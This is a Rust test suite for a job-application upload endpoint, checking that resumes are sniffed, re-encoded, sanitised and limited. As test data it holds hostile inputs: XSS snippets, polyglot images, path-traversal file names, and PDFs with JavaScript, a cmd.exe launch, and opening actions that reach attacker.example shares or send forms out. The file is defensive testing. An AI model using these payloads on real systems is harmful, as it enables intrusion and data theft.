//! `POST /api/applicant/create` through the real filters: multipart, resume sniffing, limits.

use crate::common::proof::{self, proven};
use crate::common::{json, TestApp};
use crate::image_samples::{contains, dimensions};
use crate::leads_support::{
    applicants, application_fields, file, fixture, from, multipart_body, multipart_content_type,
    post_application, text, upload_files, with_application, Part,
};
use corpsite::store::uploads::uploads_dir;

fn app() -> TestApp {
    TestApp::with_settings(|s| s.rate_limit_per_minute = 0)
}

fn png_with(tail: &[u8]) -> Vec<u8> {
    let mut bytes = fixture("resume.png");
    bytes.extend_from_slice(tail);
    bytes
}

/// A valid application leaves exactly its row and its file; anything else leaves neither.
fn assert_nothing_stored(app: &TestApp, case: &str) {
    assert!(applicants(app).is_empty(), "{case}: a row was stored");
    assert!(
        upload_files(&app.data_dir()).is_empty(),
        "{case}: a file was left: {:?}",
        upload_files(&app.data_dir())
    );
}

#[tokio::test]
async fn a_complete_application_stores_its_row_and_resume_under_a_generated_name() {
    let app = app();
    let resume = fixture("resume.png");
    let response =
        post_application(&app, &with_application(file("My CV.png", resume.clone()))).await;
    assert_eq!(response.status(), 201, "{}", json(&response));
    let id = json(&response)["data"]["_id"]
        .as_str()
        .expect("_id")
        .to_owned();

    let rows = applicants(&app);
    assert_eq!(rows.len(), 1);
    let row = &rows[0];
    assert_eq!(row.id, id);
    assert_eq!((row.name.as_str(), row.experience), ("Ravi Kumar", 4));
    assert_eq!(row.department_website, "Corp Careers");
    assert_eq!(row.previous_company, "Acme Facilities");
    assert_eq!(row.resume_file, format!("{id}.png"));
    assert_eq!(row.resume_original_name, "My CV.png");
    assert_eq!(row.resume_type, "image/png");
    let stored =
        std::fs::read(uploads_dir(&app.data_dir()).join(&row.resume_file)).expect("stored file");
    assert_eq!(row.resume_size, stored.len() as i64);
    assert_eq!(dimensions(&stored), dimensions(&resume), "the same picture");
    assert_eq!(upload_files(&app.data_dir()).len(), 1, "no temp file left");
}

#[tokio::test]
async fn the_uploaded_bytes_alone_decide_the_resume_type() {
    let png = fixture("resume.png");
    let jpeg = fixture("resume.jpg");
    let webp = fixture("resume.webp");
    let mut truncated_webp = webp.clone();
    truncated_webp.truncate(webp.len() - 10);
    let svg_with_script = br#"<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script><circle cx="5" cy="5" r="4" onClick="alert(2)"/></svg>"#;
    let mut bom_svg = b"\xef\xbb\xbf  \n".to_vec();
    bom_svg.extend_from_slice(b"<svg xmlns='http://www.w3.org/2000/svg'><circle r='1'/></svg>");
    let svg_with_entities = br#"<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;">]>
<svg xmlns="http://www.w3.org/2000/svg"><circle r="1"/><text>&lol2;</text></svg>"#;
    let zip_local_header =
        b"PK\x03\x04\x14\x00\x00\x00\x08\x00payload.html<script>alert(1)</script>";
    let mut jpeg_with_html = jpeg.clone();
    jpeg_with_html.extend_from_slice(b"<html><script>alert(1)</script></html>");

    // (case, file name sent, bytes, the stored type or the refusal's key words)
    type Case = (
        &'static str,
        &'static str,
        Vec<u8>,
        Result<&'static str, &'static str>,
    );
    let cases: Vec<Case> = vec![
        ("png", "cv.png", png.clone(), Ok("image/png")),
        ("jpeg", "cv.jpg", jpeg.clone(), Ok("image/jpeg")),
        (
            "progressive jpeg",
            "cv.jpeg",
            fixture("resume-progressive.jpg"),
            Ok("image/jpeg"),
        ),
        ("lossy webp", "cv.webp", webp.clone(), Ok("image/webp")),
        (
            "lossless webp",
            "cv.webp",
            fixture("resume-lossless.webp"),
            Ok("image/webp"),
        ),
        (
            "extended webp with alpha",
            "cv.webp",
            fixture("resume-alpha.webp"),
            Ok("image/webp"),
        ),
        (
            "png sent under a text name",
            "notes.txt",
            png.clone(),
            Ok("image/png"),
        ),
        (
            "jpeg sent as .png",
            "photo.png",
            jpeg.clone(),
            Ok("image/jpeg"),
        ),
        (
            "text renamed .png",
            "cv.png",
            b"Ravi Kumar\nExperience: 4 years\n".to_vec(),
            Err("none of those"),
        ),
        (
            "html renamed .jpg",
            "cv.jpg",
            b"<html><body><script>alert(1)</script></body></html>".to_vec(),
            Err("none of those"),
        ),
        (
            "gif",
            "cv.gif",
            b"GIF89a\x01\x00\x01\x00\x00\x00\x00;".to_vec(),
            Err("none of those"),
        ),
        (
            "truncated png",
            "cv.png",
            png[..png.len() - 20].to_vec(),
            Err("incomplete or damaged"),
        ),
        (
            "png signature only",
            "cv.png",
            png[..8].to_vec(),
            Err("incomplete or damaged"),
        ),
        (
            "jpeg without its end",
            "cv.jpg",
            jpeg[..jpeg.len() / 2].to_vec(),
            Err("incomplete or damaged"),
        ),
        (
            "truncated webp",
            "cv.webp",
            truncated_webp,
            Err("incomplete or damaged"),
        ),
        (
            "png + zip polyglot",
            "cv.png",
            png_with(zip_local_header),
            Err("hidden after its end"),
        ),
        (
            "jpeg + html polyglot",
            "cv.jpg",
            jpeg_with_html,
            Err("hidden after its end"),
        ),
        (
            "webp with bytes appended",
            "cv.webp",
            [webp.as_slice(), b"<script>"].concat(),
            Err("hidden after its end"),
        ),
        (
            "jpeg of html between SOI and EOI",
            "cv.jpg",
            crate::image_samples::jpeg_of_html(),
            Err("incomplete or damaged"),
        ),
        (
            "webp whose chunk claims 0x7fffffff bytes",
            "cv.webp",
            crate::image_samples::webp_with_a_huge_chunk(),
            Err("incomplete or damaged"),
        ),
        (
            "webp whose RIFF length covers html",
            "cv.webp",
            crate::image_samples::webp_covering_html(),
            Err("hidden after its end"),
        ),
        (
            "png with html in a text chunk (stored without it)",
            "cv.png",
            crate::image_samples::png_with_html(),
            Ok("image/png"),
        ),
        (
            "png claiming 100000 x 100000 pixels",
            "cv.png",
            crate::image_samples::png_claiming(100_000, 100_000),
            Err("too many pixels"),
        ),
        (
            "svg with script",
            "cv.svg",
            svg_with_script.to_vec(),
            Ok("image/svg+xml"),
        ),
        (
            "svg with a byte-order mark sent as .png",
            "cv.png",
            bom_svg,
            Ok("image/svg+xml"),
        ),
        (
            "malformed svg",
            "cv.svg",
            b"<svg xmlns=\"http://www.w3.org/2000/svg\"><circle r=\"1\"><script>alert(1)</svg>"
                .to_vec(),
            Err("incomplete or damaged"),
        ),
        (
            "svg with entity declarations",
            "cv.svg",
            svg_with_entities.to_vec(),
            Err("DOCTYPE or entity declarations"),
        ),
        (
            "svg root in upper case",
            "cv.svg",
            b"<SVG xmlns='http://www.w3.org/2000/svg'/>".to_vec(),
            Err("none of those"),
        ),
        (
            "html with an svg inside",
            "cv.svg",
            b"<html><body><svg xmlns='http://www.w3.org/2000/svg'/></body></html>".to_vec(),
            Err("none of those"),
        ),
    ];
    for (case, file_name, bytes, expected) in cases {
        let app = app();
        let response =
            post_application(&app, &with_application(file(file_name, bytes.clone()))).await;
        match expected {
            Ok(mime) => {
                assert_eq!(response.status(), 201, "{case}: {}", json(&response));
                let row = applicants(&app).pop().expect("row");
                assert_eq!(row.resume_type, mime, "{case}");
                let extension = match mime {
                    "image/jpeg" => "jpg",
                    "image/svg+xml" => "svg",
                    other => other.trim_start_matches("image/"),
                };
                assert_eq!(row.resume_file, format!("{}.{extension}", row.id), "{case}");
                let stored = std::fs::read(uploads_dir(&app.data_dir()).join(&row.resume_file))
                    .expect("file");
                assert_eq!(row.resume_size, stored.len() as i64, "{case}");
                if mime == "image/svg+xml" {
                    // Stored sanitized: the drawing without the script and handlers.
                    let stored = String::from_utf8(stored).expect("UTF-8 SVG");
                    assert!(
                        stored.starts_with("<svg xmlns=\"http://www.w3.org/2000/svg\""),
                        "{case}: {stored}"
                    );
                    assert!(stored.contains("<circle"), "{case}: {stored}");
                    for gone in ["script", "alert", "onload", "onClick"] {
                        assert!(!stored.contains(gone), "{case}: {gone} in {stored}");
                    }
                } else {
                    // Stored re-encoded: the same picture, and nothing that rode along.
                    assert_eq!(dimensions(&stored), dimensions(&bytes), "{case}");
                    assert_eq!(
                        image::guess_format(&stored).map(|f| f.to_mime_type()).ok(),
                        Some(mime),
                        "{case}"
                    );
                    assert!(!contains(&stored, b"<script"), "{case}");
                }
                assert_eq!(
                    upload_files(&app.data_dir()).len(),
                    1,
                    "{case}: no temp file"
                );
            }
            Err(words) => {
                assert_eq!(response.status(), 415, "{case}: {}", json(&response));
                let message = json(&response)["message"]
                    .as_str()
                    .unwrap_or_default()
                    .to_owned();
                assert!(message.contains(words), "{case}: {message}");
                assert!(
                    message.contains("JPEG, PNG, SVG or WebP"),
                    "{case}: {message}"
                );
                assert_nothing_stored(&app, case);
            }
        }
    }
}

#[tokio::test]
async fn a_photo_with_a_gps_position_in_its_exif_is_stored_without_any_metadata() {
    let app = app();
    let photo = crate::image_samples::jpeg_with_gps(64, 48);
    assert!(contains(&photo, &crate::image_samples::GPS_LATITUDE));
    let response = post_application(&app, &with_application(file("me.jpg", photo))).await;
    assert_eq!(response.status(), 201, "{}", json(&response));
    let row = applicants(&app).pop().expect("row");
    let stored =
        std::fs::read(uploads_dir(&app.data_dir()).join(&row.resume_file)).expect("stored file");
    assert!(!contains(&stored, b"Exif"), "no EXIF block");
    assert!(
        !contains(&stored, &crate::image_samples::GPS_LATITUDE),
        "no position"
    );
    assert_eq!(dimensions(&stored), (64, 48));
    assert_eq!(row.resume_size, stored.len() as i64);
}

#[tokio::test]
async fn path_traversal_file_names_are_kept_cleaned_and_never_used_as_paths() {
    let cases: &[(&str, &str)] = &[
        ("../../../../etc/cron.d/evil.png", "evil.png"),
        ("..\\..\\Windows\\System32\\evil.png", "evil.png"),
        ("/var/lib/corpsite/data/corpsite.db", "corpsite.db"),
        ("..", "resume"),
        ("uploads/../../corpsite.db", "corpsite.db"),
        ("cv\u{202e}gnp.exe", "cvgnp.exe"),
    ];
    for (sent, kept) in cases {
        let app = app();
        let response =
            post_application(&app, &with_application(file(sent, fixture("resume.png")))).await;
        assert_eq!(response.status(), 201, "{sent}");
        let row = applicants(&app).pop().expect("row");
        assert_eq!(row.resume_original_name, *kept, "{sent}");
        let files = upload_files(&app.data_dir());
        assert_eq!(files.len(), 1, "{sent}");
        assert_eq!(
            files[0],
            uploads_dir(&app.data_dir()).join(format!("{}.png", row.id)),
            "{sent}"
        );
        let db = std::fs::metadata(app.data_dir().join("corpsite.db")).expect("db");
        assert!(db.len() > 0, "{sent}: the database is untouched");
    }
}

#[tokio::test]
async fn an_application_missing_fields_and_file_names_each_of_them_and_stores_nothing() {
    let app = app();
    let response = post_application(&app, &[text("name", "Ravi"), text("experience", "99")]).await;
    assert_eq!(response.status(), 422);
    let errors = json(&response)["errors"].clone();
    let names: Vec<&String> = errors.as_object().expect("errors").keys().collect();
    assert_eq!(names, ["email", "experience", "file", "mobile"]);
    assert_nothing_stored(&app, "missing fields");
}

#[tokio::test]
async fn an_empty_file_part_as_browsers_send_without_a_choice_counts_as_no_file() {
    let app = app();
    let response = post_application(&app, &with_application(file("", Vec::new()))).await;
    assert_eq!(response.status(), 422);
    assert_eq!(json(&response)["errors"]["file"], "This field is required.");
    assert_nothing_stored(&app, "empty file");
}

#[tokio::test]
async fn a_failed_application_leaves_neither_file_nor_row() {
    let mut bad_field = with_application(file("cv.png", fixture("resume.png")));
    bad_field.retain(|p| p.name != "email");
    bad_field.push(text("email", "not-an-email"));
    let mut two_files = with_application(file("cv.png", fixture("resume.png")));
    two_files.push(file("cv2.png", fixture("resume.png")));
    let cases: Vec<(&str, Vec<Part>, u16)> = vec![
        ("a bad field after a good file", bad_field, 422),
        (
            "a file of the wrong type",
            with_application(file("cv.png", b"plain text".to_vec())),
            415,
        ),
        ("two files", two_files, 400),
    ];
    for (case, parts, status) in cases {
        let app = app();
        let response = post_application(&app, &parts).await;
        assert_eq!(response.status(), status, "{case}: {}", json(&response));
        assert_nothing_stored(&app, case);
    }
}

#[tokio::test]
async fn limits_on_the_file_the_parts_and_the_request_answer_413() {
    let small = |s: &mut corpsite::settings::Settings| {
        s.rate_limit_per_minute = 0;
        s.max_upload_bytes = 1024;
    };
    let mut big_image = fixture("resume.png");
    big_image.resize(1025, 0);
    let mut twelve_parts = application_fields();
    twelve_parts.extend([text("job", ""), text("extra1", "x"), text("extra2", "x")]);
    twelve_parts.push(file("cv.png", fixture("resume.png")));
    let cases: Vec<(&str, Vec<Part>, &str)> = vec![
        (
            "a file one byte over the setting",
            with_application(file("cv.png", big_image)),
            "resume file is larger than 1 KB",
        ),
        (
            "a text part over 16 KB",
            with_application(text("query", &"q".repeat(16 * 1024 + 1))),
            "field query is larger than 16 KB",
        ),
        (
            "an unknown text part over 16 KB",
            with_application(text("other", &"o".repeat(17 * 1024))),
            "larger than 16 KB",
        ),
        ("twelve parts", twelve_parts, "at most 11 parts"),
    ];
    for (case, parts, words) in cases {
        let app = TestApp::with_settings(small);
        let response = post_application(&app, &parts).await;
        assert_eq!(response.status(), 413, "{case}: {}", json(&response));
        let message = json(&response)["message"]
            .as_str()
            .unwrap_or_default()
            .to_owned();
        assert!(message.contains(words), "{case}: {message}");
        assert_nothing_stored(&app, case);
    }

    // Ten parts are fine.
    let app = TestApp::with_settings(small);
    let mut ten_parts = with_application(file("cv.png", fixture("resume.png")));
    ten_parts.push(text("extra", "x"));
    assert_eq!(post_application(&app, &ten_parts).await.status(), 201);

    // The whole request (file limit + 1 MiB) is counted as it streams: here the excess sits
    // in the preamble before the first part, which no part limit sees.
    let app = TestApp::with_settings(small);
    let mut body = vec![b'x'; 1024 * 1024 + 2048];
    body.extend_from_slice(b"\r\n");
    body.extend(multipart_body(&with_application(file(
        "cv.png",
        fixture("resume.png"),
    ))));
    let response = app
        .request(
            proven(
                &app,
                from([192, 0, 2, 1])
                    .method("POST")
                    .path("/api/applicant/create")
                    .header("content-type", multipart_content_type())
                    .body(&body),
                proof::APPLICATION,
                [192, 0, 2, 1],
            )
            .await,
        )
        .await;
    assert_eq!(response.status(), 413, "{}", json(&response));
    assert!(json(&response)["message"]
        .as_str()
        .is_some_and(|m| m.contains("application is larger")));
    assert_nothing_stored(&app, "oversized request");
}

#[tokio::test]
async fn a_request_declaring_more_than_the_limit_is_refused_before_reading() {
    let app = app();
    let response = app
        .request(
            proven(
                &app,
                from([192, 0, 2, 1])
                    .method("POST")
                    .path("/api/applicant/create")
                    .header("content-type", multipart_content_type())
                    .header("content-length", (6 * 1024 * 1024 + 1).to_string()),
                proof::APPLICATION,
                [192, 0, 2, 1],
            )
            .await,
        )
        .await;
    assert_eq!(response.status(), 413);
    assert!(json(&response)["message"]
        .as_str()
        .is_some_and(|m| m.contains("6 MB")));
}

#[tokio::test]
async fn a_body_that_is_not_multipart_form_data_gets_415_and_broken_multipart_400() {
    let app = app();
    let cases: &[(Option<&str>, &[u8], u16)] = &[
        (Some("application/json"), b"{\"name\":\"Ravi\"}", 415),
        (Some("application/x-www-form-urlencoded"), b"name=Ravi", 415),
        (Some("text/plain"), b"name=Ravi", 415),
        (None, b"", 415),
        (Some("multipart/form-data"), b"", 400),
        (
            Some("multipart/form-data; boundary=abc"),
            b"this is not multipart at all",
            400,
        ),
        (
            Some("multipart/form-data; boundary=abc"),
            b"--abc\r\nContent-Disposition: form-data; name=\"name\"\r\n\r\nRavi",
            400,
        ),
    ];
    for (content_type, body, status) in cases {
        let mut request = from([192, 0, 2, 1])
            .method("POST")
            .path("/api/applicant/create")
            .body(body);
        if let Some(content_type) = content_type {
            request = request.header("content-type", *content_type);
        }
        let request = proven(&app, request, proof::APPLICATION, [192, 0, 2, 1]).await;
        let response = app.request(request).await;
        assert_eq!(response.status(), *status, "{content_type:?}");
        assert!(json(&response)["message"].is_string(), "{content_type:?}");
    }
    assert_nothing_stored(&app, "bad content types");
}

#[tokio::test]
async fn a_filled_honeypot_is_answered_201_and_neither_row_nor_file_is_kept() {
    let app = app();
    let mut parts = with_application(file("cv.png", fixture("resume.png")));
    parts.retain(|p| p.name != "website");
    parts.push(text("website", "http://spam.example"));
    let response = post_application(&app, &parts).await;
    assert_eq!(response.status(), 201);
    assert!(json(&response)["data"]["_id"].is_string());
    assert_nothing_stored(&app, "honeypot");
}

#[tokio::test]
async fn a_robots_application_does_a_real_ones_write_and_commit_so_its_timing_tells_nothing() {
    let app = app();
    let wal = app.data_dir().join("corpsite.db-wal");
    let wal_size = || std::fs::metadata(&wal).map_or(0, |m| m.len());
    let mut parts = with_application(file("cv.png", fixture("resume.png")));
    parts.retain(|p| p.name != "website");
    parts.push(text("website", "http://spam.example"));
    let before = wal_size();
    assert_eq!(post_application(&app, &parts).await.status(), 201);
    assert!(
        wal_size() > before,
        "the robot's row was neither written nor undone"
    );
    assert_nothing_stored(&app, "honeypot");
}

#[tokio::test]
async fn uploads_are_never_served_over_http() {
    let app = app();
    let response = post_application(
        &app,
        &with_application(file("cv.png", fixture("resume.png"))),
    )
    .await;
    assert_eq!(response.status(), 201);
    let stored = applicants(&app).pop().expect("row").resume_file;
    let png = fixture("resume.png");
    for path in [
        format!("/uploads/{stored}"),
        format!("/data/uploads/{stored}"),
        format!("/media/../uploads/{stored}"),
        format!("/media/%2e%2e/uploads/{stored}"),
        format!("/assets/../uploads/{stored}"),
        format!("/api/uploads/{stored}"),
        format!("/{stored}"),
        "/corpsite.db".to_owned(),
    ] {
        let response = app.get(&path).await;
        assert_ne!(response.status(), 200, "{path}");
        assert_ne!(response.body().as_ref(), png.as_slice(), "{path}");
    }
}

#[tokio::test]
async fn restoring_an_older_database_moves_newer_resumes_aside_and_never_deletes_them() {
    let app = app();
    let png = fixture("resume.png");
    let response = post_application(&app, &with_application(file("cv.png", png.clone()))).await;
    assert_eq!(response.status(), 201);
    let id = json(&response)["data"]["_id"]
        .as_str()
        .expect("an _id")
        .to_owned();
    let uploads = uploads_dir(&app.data_dir());
    // As stored: re-encoded, so not byte for byte the fixture.
    let stored = std::fs::read(uploads.join(format!("{id}.png"))).expect("stored resume");
    // The office restores a backup taken before this application: its row is gone.
    app.db()
        .write(|conn| {
            conn.execute("DELETE FROM applicants", [])
                .map_err(corpsite::store::StoreError::from)
        })
        .await
        .expect("restore");
    let orphaned = uploads.join("orphaned");
    std::fs::create_dir_all(&orphaned).expect("orphaned dir");
    std::fs::write(orphaned.join(format!("{id}.png")), b"an earlier orphan").expect("write");

    let mut settings = app.state.settings.as_ref().clone();
    settings.seed_demo_content = false;
    let restarted = tokio::task::spawn_blocking(move || corpsite::server::open_store(&settings))
        .await
        .expect("join")
        .expect("restart");
    restarted.close();

    assert!(!uploads.join(format!("{id}.png")).exists());
    assert_eq!(
        std::fs::read(orphaned.join(format!("{id}-1.png"))).expect("moved, not deleted"),
        stored
    );
    assert_eq!(
        std::fs::read(orphaned.join(format!("{id}.png"))).expect("left as it was"),
        b"an earlier orphan"
    );
}

/// A hand-written PDF of `objects` (numbered from 1, the catalogue first), its
/// cross-reference table right, with `trailer_extra` in the trailer.
fn pdf(objects: &[&str], trailer_extra: &str) -> Vec<u8> {
    let mut out = b"%PDF-1.7\n".to_vec();
    let mut offsets = Vec::new();
    for (i, body) in objects.iter().enumerate() {
        offsets.push(out.len());
        out.extend_from_slice(format!("{} 0 obj\n{body}\nendobj\n", i + 1).as_bytes());
    }
    let xref = out.len();
    out.extend_from_slice(
        format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes(),
    );
    for offset in offsets {
        out.extend_from_slice(format!("{offset:010} 00000 n \n").as_bytes());
    }
    out.extend_from_slice(
        format!(
            "trailer\n<< /Size {} /Root 1 0 R {trailer_extra} >>\nstartxref\n{xref}\n%%EOF\n",
            objects.len() + 1
        )
        .as_bytes(),
    );
    out
}

/// A one-page PDF with `catalog` and `page` added to its catalogue and page, and `more`
/// objects from number 4.
fn one_page_pdf(catalog: &str, page: &str, more: &[&str]) -> Vec<u8> {
    let catalog = format!("<< /Type /Catalog /Pages 2 0 R {catalog} >>");
    let page = format!("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] {page} >>");
    let mut objects = vec![
        catalog.as_str(),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        page.as_str(),
    ];
    objects.extend_from_slice(more);
    pdf(&objects, "")
}

#[tokio::test]
async fn a_real_pdf_resume_is_stored_as_sent_under_a_pdf_name() {
    let app = app();
    // Made by Ghostscript from tests/fixtures/resume.ps: two pages of text.
    let resume = fixture("resume.pdf");
    let response =
        post_application(&app, &with_application(file("My CV.pdf", resume.clone()))).await;
    assert_eq!(response.status(), 201, "{}", json(&response));
    let id = json(&response)["data"]["_id"]
        .as_str()
        .expect("_id")
        .to_owned();
    let rows = applicants(&app);
    assert_eq!(rows.len(), 1);
    let row = &rows[0];
    assert_eq!(row.resume_file, format!("{id}.pdf"));
    assert_eq!(row.resume_type, "application/pdf");
    assert_eq!(row.resume_original_name, "My CV.pdf");
    let stored =
        std::fs::read(uploads_dir(&app.data_dir()).join(&row.resume_file)).expect("stored file");
    assert_eq!(stored, resume, "the bytes as sent");
    assert_eq!(row.resume_size, resume.len() as i64);
    assert_eq!(upload_files(&app.data_dir()).len(), 1, "no temp file left");
}

#[tokio::test]
async fn hostile_or_broken_pdfs_are_refused_on_the_file_field_and_nothing_is_stored() {
    let real = fixture("resume.pdf");
    let kids: Vec<String> = (0..10_000).map(|i| format!("{} 0 R", i + 3)).collect();
    let tree = format!("<< /Type /Pages /Kids [{}] /Count 10000 >>", kids.join(" "));
    let mut bomb_objects = vec!["<< /Type /Catalog /Pages 2 0 R >>", tree.as_str()];
    bomb_objects.extend(std::iter::repeat_n(
        "<< /Type /Page /Parent 2 0 R >>",
        10_000,
    ));
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        (
            "JavaScript open action",
            one_page_pdf("/OpenAction 4 0 R", "", &["<< /S /JavaScript /JS (app.alert(1)) >>"]),
            "contains JavaScript",
        ),
        (
            "launch action",
            one_page_pdf("/OpenAction << /S /Launch /F (cmd.exe) >>", "", &[]),
            "opens other programs or files",
        ),
        (
            "embedded files",
            one_page_pdf("/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>", "", &["<< /Type /Filespec /F (a.exe) >>"]),
            "other files embedded or attached",
        ),
        (
            "file attachment annotation",
            one_page_pdf("", "/Annots [4 0 R]", &["<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] >>"]),
            "other files embedded or attached",
        ),
        (
            "AcroForm",
            one_page_pdf("/AcroForm << /Fields [] >>", "", &[]),
            "fillable form",
        ),
        (
            "form sent on opening",
            one_page_pdf("/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://collect.example/) >> >>", "", &[]),
            "does something by itself when it is opened",
        ),
        (
            "file on another machine (UNC) on opening",
            one_page_pdf(r"/OpenAction << /S /GoToR /F (\\\\attacker.example\\share\\cv.pdf) /D [0 /Fit] >>", "", &[]),
            "does something by itself when it is opened",
        ),
        (
            "data imported on opening",
            one_page_pdf("/OpenAction 4 0 R", "", &[r"<< /S /ImportData /F (\\\\attacker.example\\x.fdf) >>"]),
            "does something by itself when it is opened",
        ),
        (
            "javascript: address on opening",
            one_page_pdf("/OpenAction << /S /URI /URI (javascript:app.alert(1)) >>", "", &[]),
            "does something by itself when it is opened",
        ),
        (
            "page action",
            one_page_pdf("", "/AA << /O << /S /URI /URI (https://track.example/) >> >>", &[]),
            "does something by itself when it is opened",
        ),
        (
            "encrypted",
            pdf(
                &[
                    "<< /Type /Catalog /Pages 2 0 R >>",
                    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
                    "<< /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff> /U <00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff> >>",
                ],
                "/Encrypt 4 0 R /ID [<0123456789abcdef0123456789abcdef> <0123456789abcdef0123456789abcdef>]",
            ),
            "password-protected or encrypted",
        ),
        ("truncated", real[..real.len() * 2 / 3].to_vec(), "incomplete or damaged"),
        ("10,000 pages", pdf(&bomb_objects, ""), "more than 50 pages"),
    ];
    for (case, bytes, words) in cases {
        let app = app();
        let response = post_application(&app, &with_application(file("cv.pdf", bytes))).await;
        assert_eq!(response.status(), 422, "{case}: {}", json(&response));
        let message = json(&response)["errors"]["file"]
            .as_str()
            .unwrap_or_default()
            .to_owned();
        assert!(message.contains(words), "{case}: {message}");
        assert_nothing_stored(&app, case);
    }
}

#[tokio::test]
async fn a_pdf_opening_on_a_page_view_is_accepted() {
    for catalog in [
        "/OpenAction [3 0 R /Fit]",
        "/OpenAction << /S /GoTo /D [3 0 R /XYZ null null 0] >>",
    ] {
        let app = app();
        let sent = one_page_pdf(catalog, "", &[]);
        let response = post_application(&app, &with_application(file("cv.pdf", sent))).await;
        assert_eq!(response.status(), 201, "{catalog}: {}", json(&response));
    }
}

#[tokio::test]
async fn a_pdf_resume_downloads_as_an_attachment_only_and_an_image_shows_on_a_plain_page() {
    use crate::common::header;
    use crate::common::staff::{add_staff, Browser, EMAIL, PASSWORD};
    let app = app();
    add_staff(&app, EMAIL, PASSWORD, false).await;
    let browser = Browser::sign_in(&app).await;
    let resume = fixture("resume.pdf");
    let posted = post_application(&app, &with_application(file("cv.pdf", resume.clone()))).await;
    let id = json(&posted)["data"]["_id"]
        .as_str()
        .expect("_id")
        .to_owned();
    for query in ["", "?download=1"] {
        let path = format!("/api/staff/inbox/applicants/{id}/resume{query}");
        let response = app.request(browser.get(&path)).await;
        assert_eq!(response.status(), 200, "{query}");
        assert_eq!(header(&response, "content-type"), "application/pdf");
        assert_eq!(
            header(&response, "content-disposition"),
            format!("attachment; filename=\"resume-{id}.pdf\"")
        );
        assert_eq!(header(&response, "x-content-type-options"), "nosniff");
        let policies: Vec<&str> = response
            .headers()
            .get_all("content-security-policy")
            .iter()
            .filter_map(|v| v.to_str().ok())
            .collect();
        assert_eq!(
            policies,
            ["sandbox; default-src 'none'; frame-ancestors 'none'"],
            "one policy, stricter than the site's"
        );
        assert_eq!(response.body().as_ref(), resume.as_slice());
    }

    let png = fixture("resume.png");
    let posted = post_application(&app, &with_application(file("cv.png", png))).await;
    let id = json(&posted)["data"]["_id"]
        .as_str()
        .expect("_id")
        .to_owned();
    let path = format!("/api/staff/inbox/applicants/{id}/resume");
    let page = app.request(browser.get(&path)).await;
    assert_eq!(header(&page, "content-type"), "text/html; charset=utf-8");
    assert_eq!(header(&page, "x-content-type-options"), "nosniff");
    let html = String::from_utf8(page.body().to_vec()).expect("UTF-8");
    assert!(
        html.contains("<img src=\"data:image/png;base64,"),
        "{}",
        &html[..200]
    );
    // Centred and scaled down to the window by the page's one style; nothing runs.
    assert!(
        html.contains("justify-content:center") && html.contains("max-width:100%"),
        "centred and fitted"
    );
    assert!(!html.contains("<script") && !html.contains("style="));
    let download = app
        .request(browser.get(&format!("{path}?download=1")))
        .await;
    assert_eq!(header(&download, "content-type"), "image/png");
    assert!(download.body().starts_with(b"\x89PNG"));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_pdf_resume_is_mailed_as_an_application_pdf_attachment() {
    use crate::support::{app_sending_to, attachments, parse, SmtpServer};
    let smtp = SmtpServer::start();
    let app = app_sending_to(&smtp, &["office@corp.example.com"]);
    let resume = fixture("resume.pdf");
    let response =
        post_application(&app, &with_application(file("my cv.pdf", resume.clone()))).await;
    assert_eq!(response.status(), 201, "{}", json(&response));
    let received = smtp.wait_for(1, std::time::Duration::from_secs(20));
    let mail = parse(&received[0]);
    let files = attachments(&mail);
    assert_eq!(files.len(), 1, "{files:?}");
    assert_eq!(files[0].1, "application/pdf");
    assert!(
        files[0].0.starts_with("resume-") && files[0].0.ends_with(".pdf"),
        "{}",
        files[0].0
    );
    assert_eq!(files[0].2, resume, "the PDF as sent");
}

/// Each text field is one string, as the published form says: a second part of the same name
/// is refused, not taken in place of the first.
#[tokio::test]
async fn a_text_field_sent_twice_is_refused_and_nothing_is_stored() {
    let app = app();
    let mut parts = with_application(file("cv.png", fixture("resume.png")));
    parts.push(text("previous_company", "Another Corp"));
    let response = post_application(&app, &parts).await;
    assert_eq!(response.status(), 400, "{}", json(&response));
    assert_eq!(
        json(&response)["message"],
        "The field previous_company was sent more than once."
    );
    assert_nothing_stored(&app, "a field sent twice");
}
